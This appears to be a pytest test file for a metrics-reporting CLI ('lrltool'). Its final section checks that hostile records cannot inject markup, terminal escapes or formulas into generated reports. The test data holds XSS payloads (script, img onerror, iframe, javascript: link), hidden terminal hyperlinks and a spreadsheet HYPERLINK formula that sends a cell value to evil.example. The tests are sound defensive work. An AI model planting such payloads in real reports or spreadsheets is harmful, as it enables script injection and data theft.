    run = tmp_path / "runs" / "mlt" / "seq_bn-glotcc"
    run.mkdir(parents=True)
    lines = [{"step": s, "loss": 5.0 - 0.1 * s, "lr": 1e-4, "epoch": s / 100} for s in range(1, 31)]
    lines += [{"step": 10, "eval_loss": 4.2}, {"step": 20, "eval_loss": 3.1}, {"step": 30, "eval_loss": 3.4}]
    write_jsonl(run / "log.jsonl", lines)
    (run / "training.json").write_text(
        json.dumps(
            {"method": "seq_bn", "source": "glotcc", "lang": "mlt_Latn", "versions": {"adapters": "1.3.0"}}
        )
    )
    rec = metric_record(
        metric="pppl_mean",
        value=7.0,
        lang="mlt",
        model=MODEL,
        task="mlm",
        method="seq_bn",
        source="glotcc",
        adapter=str(run / "adapter"),
        n=5,
    )
    path = write_jsonl(tmp_path / "m.jsonl", [rec])
    result = cli(["report", path, "-o", tmp_path / "out"])
    assert result.exit_code == 0, result.stderr
    assert_png(tmp_path / "out" / "plots" / "loss_seq_bn-glotcc.png")
    md = (tmp_path / "out" / "report.md").read_text()
    assert (
        f"- `{run}` (30 training points, 3 validation points; best validation loss 3.1000 at step 20)" in md
    )
    assert "(plots/loss_seq_bn-glotcc.png)" in md
    assert f"- run `{run}`: adapters 1.3.0" in md

    # A run folder alone (no records): --runs, or as a positional argument.
    for args in (
        ["report", "--runs", run, "-o", tmp_path / "runs-only"],
        ["report", run, "-o", tmp_path / "runs-only2"],
    ):
        result = cli(args, input="")
        assert result.exit_code == 0, result.stderr
    assert_png(tmp_path / "runs-only" / "plots" / "loss_seq_bn-glotcc.png")
    assert (tmp_path / "runs-only2" / "plots" / "loss_seq_bn-glotcc.png").is_file()


@pytest.fixture
def small_metrics_file(tmp_path) -> Path:
    return write_jsonl(tmp_path / "small.jsonl", [r for r in records() if r["metric"] == "pppl_mean"])


def test_rewrite_replaces_old_plots(small_metrics_file, tmp_path, cli):
    metrics_file = small_metrics_file
    out = tmp_path / "out"
    (out / "plots").mkdir(parents=True)
    (out / "plots" / "stale.png").write_bytes(b"old")
    assert cli(["report", metrics_file, "-o", out]).exit_code == 0
    assert not (out / "plots" / "stale.png").exists()
    assert not [p for p in out.iterdir() if p.name.startswith(".report-")]


def test_failure_while_drawing_leaves_the_old_report_untouched(small_metrics_file, tmp_path, monkeypatch):
    metrics_file = small_metrics_file
    out = tmp_path / "out"
    report_metrics(inputs=[str(metrics_file)], output_dir=out)
    before = {p.relative_to(out): p.read_bytes() for p in out.rglob("*") if p.is_file()}
    from lrltool.report import plots

    def broken(*args, **kwargs):
        raise RuntimeError("disk full")

    monkeypatch.setattr(plots, "draw_gain", broken)
    with pytest.raises(RuntimeError, match="disk full"):
        report_metrics(inputs=[str(metrics_file)], output_dir=out)
    after = {p.relative_to(out): p.read_bytes() for p in out.rglob("*") if p.is_file()}
    assert after == before


def test_failure_in_a_new_folder_leaves_no_report(small_metrics_file, tmp_path, monkeypatch):
    metrics_file = small_metrics_file
    from lrltool.report import plots

    monkeypatch.setattr(plots, "draw_table", lambda *a, **k: (_ for _ in ()).throw(RuntimeError("boom")))
    out = tmp_path / "new"
    with pytest.raises(RuntimeError):
        report_metrics(inputs=[str(metrics_file)], output_dir=out)
    assert list(out.iterdir()) == []


def test_pppl_metric_option(metrics_file, cli):
    result = cli(["report", metrics_file, "--pppl-metric", "pppl"])
    assert result.exit_code == 0
    assert "Pseudo-perplexity (pppl), xlm-roberta-base" in result.stdout
    assert f"{500.0 * 1.1:.2f}" in result.stdout


# ---------------------------------------------------------------------------------------------------
# Bad input: one line, exit 1 (2 for usage), no traceback, no output


def good_line(**overrides) -> str:
    rec = metric_record(metric="pppl_mean", value=5.0, lang="ron", model=MODEL, task="mlm", n=5)
    rec.update(overrides)
    return json.dumps(rec)


BAD = [
    ("not json", "{oops", 2, "line is not valid JSON"),
    (
        "missing value",
        json.dumps({k: v for k, v in json.loads(good_line()).items() if k != "value"}),
        2,
        "metric record has no 'value' key",
    ),
    ("value not a number", good_line(value="5"), 2, "metric record 'value' is not a number"),
    (
        "f1 as a percentage",
        good_line(metric="f1", task="ner", value=78.9),
        2,
        "'f1' value 78.9 is outside [0, 1]; metric records hold scores as fractions",
    ),
    ("negative perplexity", good_line(value=-1.0), 2, "'pppl_mean' value -1 is not positive"),
    ("seed as text", good_line(seed="1"), 2, "metric record field 'seed' is str, expected int or null"),
    ("unknown aggregate", good_line(aggregate="median"), 2, "unknown aggregate 'median'"),
    ("not an object", "[1, 2]", 2, "expected a JSON object, found a JSON list"),
    (
        "aggregate sd",
        good_line(aggregate="mean", details={"sd": "big"}),
        2,
        "'details.sd' is not a non-negative",
    ),
    (
        "aggregate seeds",
        good_line(aggregate="mean", details={"seeds": [{}]}),
        2,
        "'details.seeds' is not a list",
    ),
]


@pytest.mark.parametrize(("case", "line", "line_no", "message"), BAD, ids=[b[0] for b in BAD])
def test_bad_records_are_one_line_errors_naming_file_and_line(tmp_path, cli, case, line, line_no, message):
    path = tmp_path / "m.jsonl"
    path.write_text(good_line() + "\n" + line + "\n" + good_line() + "\n")
    out = tmp_path / "out"
    result = cli(["report", path, "-o", out])
    assert result.exit_code == 1
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1, result.stderr
    assert lines[0].startswith(f"error: {path}:{line_no}: ")
    assert message in lines[0]
    assert "Traceback" not in result.stderr
    assert result.stdout == ""
    assert not out.exists()


def test_skip_bad_lines_counts_and_goes_on(tmp_path, cli):
    path = tmp_path / "m.jsonl"
    path.write_text(good_line() + "\n{oops\n" + good_line(lang="mlt", value=9.0) + "\n")
    result = cli(["report", path, "--skip-bad-lines"])
    assert result.exit_code == 0
    assert f"warning: skipped: {path}:2: line is not valid JSON" in result.stderr
    assert "report: 2 in, 2 out; dropped 1 (bad_line 1); tables 1" in result.stderr


@pytest.mark.parametrize(
    ("args", "code", "message"),
    [
        (["nothing-here-*.jsonl"], 1, "no file matches 'nothing-here-*.jsonl'"),
        (["missing.jsonl"], 1, "missing.jsonl: no such file"),
        (["."], 1, ".: is a folder, not a metrics file; give the metric files in it"),
        (["empty.jsonl"], 1, "no metric records in empty.jsonl"),
        (["empty.jsonl", "--runs", "."], 1, ".: not a run folder (no log.jsonl)"),
        (["empty.jsonl", "--pppl-metric", "ppl"], 2, "unknown pseudo-perplexity metric 'ppl'"),
        (["-", "-"], 2, "stdin ('-') is named more than once"),
    ],
)
def test_bad_arguments(tmp_path, cli, monkeypatch, args, code, message):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "empty.jsonl").write_text("")
    result = cli(["report", *args, "-o", "out"], input="")
    assert result.exit_code == code, result.stderr
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and message in lines[0], result.stderr
    assert "Traceback" not in result.stderr
    assert not (tmp_path / "out").exists()


def test_output_that_is_a_file_is_refused(metrics_file, tmp_path, cli):
    target = tmp_path / "taken"
    target.write_text("mine")
    result = cli(["report", metrics_file, "-o", target])
    assert result.exit_code == 2
    assert result.stderr.strip() == f"error: {target}: the output is a file, not a folder; give -o a folder"
    assert target.read_text() == "mine"


def test_bad_log_line_names_the_log(tmp_path, cli):
    run = tmp_path / "run"
    run.mkdir()
    (run / "log.jsonl").write_text('{"step": 1, "loss": 2.0}\n{"step": "two", "loss": 1.0}\n')
    result = cli(["report", "--runs", run, "-o", tmp_path / "out"], input="")
    assert result.exit_code == 1
    assert result.stderr.strip() == (
        f"error: {run / 'log.jsonl'}:2: log line field 'step' is str, expected int;"
        " write 'step' as a JSON int"
    )
    assert not (tmp_path / "out").exists()


def test_load_metric_records_keeps_where_each_came_from(metrics_file):
    entries, counts = load_metric_records([str(metrics_file)])
    assert counts == [(str(metrics_file), len(records()))]
    assert entries[0].where == f"{metrics_file}:1" and entries[0].lang == "ron_Latn"
    report = build_report(entries)
    assert report.n_records == len(records())


def test_note_is_shown_first_in_report_md_and_on_the_terminal(cli, tmp_path):
    metrics = tmp_path / "m.jsonl"
    record = {
        "metric": "pppl_mean", "value": 12.5, "lang": "ron_Latn", "model": "xlm-roberta-base",
        "adapter": None, "method": "base", "source": None, "task": "mlm", "n": 3,
    }  # fmt: skip
    metrics.write_text(json.dumps(record) + "\n")
    note = "A tiny random model: these numbers show the pipeline runs, not what adapters buy."
    result = cli(["report", metrics, "--note", note, "-o", tmp_path / "rep"])
    assert result.exit_code == 0, result.stderr
    assert result.stdout.splitlines()[0] == f"Note. {note}"
    lines = (tmp_path / "rep" / "report.md").read_text().splitlines()
    assert lines[:3] == ["# lrltool report", "", f"> **Note.** {note}"]


# ---------------------------------------------------------------------------------------------------
# Hostile records


SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(1)>"
IFRAME = "<iframe src=https://evil.example>"
LINK = "[click](javascript:alert(1))"
HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"open")'
OSC8 = "\x1b]8;;https://evil.example\x1b\\innocent\x1b]8;;\x1b\\"  # a hidden terminal hyperlink
CLEAR = "\x1b[2J\x1b[H"  # clear the screen


def hostile_records() -> list[dict]:
    common = dict(task="tc", n=10, task_method="adapter", settings={"data_hash": f"x{IFRAME}", "note": CLEAR})
    return [
        metric_record(
            metric="macro_f1", value=0.5 + 0.01 * seed, lang=f"ron_Latn\n# Owned {OSC8}", model=f"m{SCRIPT}",
            method="base", seed=seed, adapter=f"a`b`|{LINK}", **common,
        )
        for seed in (1, 2)
    ] + [
        metric_record(
            metric="macro_f1", value=0.6, lang=f"ron_Latn\n# Owned {OSC8}", model=f"m{SCRIPT}",
            method=f"x{IMG}", source=HYPERLINK, seed=1, adapter="ok", **common,
        )
    ]  # fmt: skip


@pytest.mark.filterwarnings("error::UserWarning")  # matplotlib's "Glyph 27 missing": ESC reached a plot
def test_hostile_records_cannot_inject_markup_escapes_or_formulas(tmp_path, cli):
    from markdown_it import MarkdownIt

    metrics = write_jsonl(tmp_path / "m.jsonl", hostile_records())
    result = cli(["report", metrics, "-o", tmp_path / "rep"])
    assert result.exit_code == 0, result.stderr
    # The terminal: no escape sequence reaches it; the characters are shown instead.
    assert "\x1b" not in result.stdout and "\\x1b]8;;https://evil.example" in result.stdout
    # report.md rendered by an independent CommonMark renderer (raw HTML allowed, as GitHub's is).
    md = (tmp_path / "rep" / "report.md").read_text(encoding="utf-8")
    assert "\x1b" not in md and "\n# Owned" not in md
    html = MarkdownIt("commonmark").enable("table").render(md)
    for tag in ("<script", "<img src=x", "<iframe", "<h1>Owned", 'href="javascript'):
        assert tag not in html
    assert html.count("<h1>") == 1  # "lrltool report" only
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html and "&lt;img src=x onerror=alert(1)&gt;" in html
    assert "[click](javascript:alert(1))" in html  # shown as text, not a link
    assert all(src.startswith("plots/") for src in re.findall(r'<img src="([^"]*)"', html))
    # results.csv: the formula is text; numbers (negative ones too) stay numbers.
    rows = list(csv.DictReader((tmp_path / "rep" / "results.csv").open(encoding="utf-8")))
    sources = {r["source"] for r in rows}
    assert "'" + HYPERLINK in sources and HYPERLINK not in sources
    assert any(r["delta"].startswith("-") or r["delta"].startswith("0") for r in rows if r["delta"])
    assert all(not r["delta"].startswith("'") for r in rows)


def test_names_with_dollars_are_plotted_as_text_not_mathtext(tmp_path, cli):
    """mathtext could not parse "$\\sqrt{$" and failed the whole report; a name is shown as written."""
    from matplotlib.text import Text

    from lrltool.report import plots

    common = dict(metric="macro_f1", task="tc", n=10, task_method="adapter", model="m$\\frac{$x", adapter="a")
    records = [metric_record(value=0.5, lang="ron_Latn\x1b$x$", method="base", seed=1, **common)]
    method = "seq_bn$\\sqrt{$"
    records.append(metric_record(value=0.6, lang="ron_Latn\x1b$x$", method=method, seed=1, **common))
    drawn: list[str] = []
    save = plots._save

    def keep_texts(fig, path):
        save(fig, path)
        drawn.extend(t.get_text() for t in fig.findobj(Text) if not t.get_parse_math())

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(plots, "_save", keep_texts)
        result = cli(["report", write_jsonl(tmp_path / "m.jsonl", records), "-o", tmp_path / "rep"])
    assert result.exit_code == 0, result.stderr
    assert "Topic classification (SIB-200) per language, m$\\frac{$x: macro_f1 (%)" in drawn
    assert method in drawn and "+10.00\n(+20.0%)" in drawn
    assert len(list((tmp_path / "rep" / "plots").glob("*.png"))) == 1


def test_markdown_escaping_keeps_the_text():
    from markdown_it import MarkdownIt

    from lrltool.report.render import _code, _md

    for text in ("a|b", "x*y*", "# h", "> q", "[t](u)", "`c`", "<b>", "back\\slash", "seq_bn/glotcc"):
        rendered = MarkdownIt("commonmark").render(f"- {_md(text)}\n")
        assert rendered == f"<ul>\n<li>{text.replace('<', '&lt;').replace('>', '&gt;')}</li>\n</ul>\n"
        code = MarkdownIt("commonmark").renderInline(_code(text))
        assert code == f"<code>{text.replace('<', '&lt;').replace('>', '&gt;')}</code>"


def test_compare_paper_sets_no_number_beside_another_pppl_definition(tmp_path, cli):
    """Our default PPPL (special tokens not scored) is not the paper's: the comparison says so."""
    mbert = "bert-base-multilingual-cased"
    recs = [
        metric_record(metric="pppl_mean", value=9.0, lang="ron", model=mbert, task="mlm", n=1012,
                      settings={"paper_compat": False}),
        metric_record(metric="pppl_mean", value=5.0, lang="ron", model=mbert, task="mlm", method="seq_bn",
                      source="glotcc", n=1012, settings=PAPER_PPPL),
    ]  # fmt: skip
    path = write_jsonl(tmp_path / "m.jsonl", recs)
    report = report_metrics(inputs=[str(path)], compare_paper=True)
    got = {c.number.label: c for c in report.comparisons if c.number.lang == "ron_Latn"}
    assert (got["base"].ours, got["base"].ours_label) == (None, "definitions differ")
    assert got["base"].note == "ours lack paper_compat=true" and got["base"].difference is None
    assert got["seq_bn/glotcc"].ours == 5.0 and got["seq_bn/glotcc"].difference == pytest.approx(5.0 - 5.94)
    table = next(t for t in report.tables if t.task == "mlm")
    assert [n.label for n in table.paper["ron_Latn"]] == ["seq_bn/glotcc"]  # 11.49 is not set beside 9.0
    result = cli(["report", path, "--compare-paper", "-o", tmp_path / "out"])
    assert result.exit_code == 0, result.stderr
    md = (tmp_path / "out" / "report.md").read_text()
    assert "| 11.49 |  | definitions differ (ours lack paper_compat=true) |  |" in md
